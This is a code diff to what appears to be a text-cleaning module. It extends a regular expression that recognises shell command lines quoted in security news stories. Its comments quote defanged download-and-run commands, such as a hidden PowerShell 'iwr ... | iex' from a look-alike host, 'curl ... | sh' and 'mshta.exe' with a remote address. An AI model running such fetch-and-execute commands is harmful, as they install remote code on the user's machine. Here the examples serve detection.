@@ -78,8 +78,9 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 _OPENING_CHARACTERS = 4
 # A security or tech desk's command line set between the story's paragraphs, as the attack or the fix runs
 # it (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL
-# https://... | sh", "sudo apt-get install ..."): a shell's program in lower case, a switch after it ("-w", "/c",
-# "--version") or the program's own word ("apt-get install"), and no stop closing the line. Code, which the
+# https://... | sh", "sudo apt-get install ...", "mshta.exe hxxps://..."): a shell's program in lower case, a
+# switch after it ("-w", "/c", "--version"), an address (defanged or not) or the program's own word ("apt-get
+# install"), and no stop closing the line. Code, which the
 # reader has in the page's box and which no summary reads as a sentence; the story's sentence about the
 # command opens on a capital and runs on in words ("PowerShell then downloads a script ...").
 _COMMANDS = (
@@ -88,7 +89,7 @@ _COMMANDS = (
     "docker", "kubectl",
 )  # fmt: skip
 _COMMAND_LINE = re.compile(
-    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|(?:install|clone|run|pull|update|upgrade)"
+    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|h(?:tt|xx)ps?://|(?:install|clone|run|pull|update|upgrade)"
     r" )[^\n]*+"
 )
 _COMMAND_LINE_MAX_CHARACTERS = 400
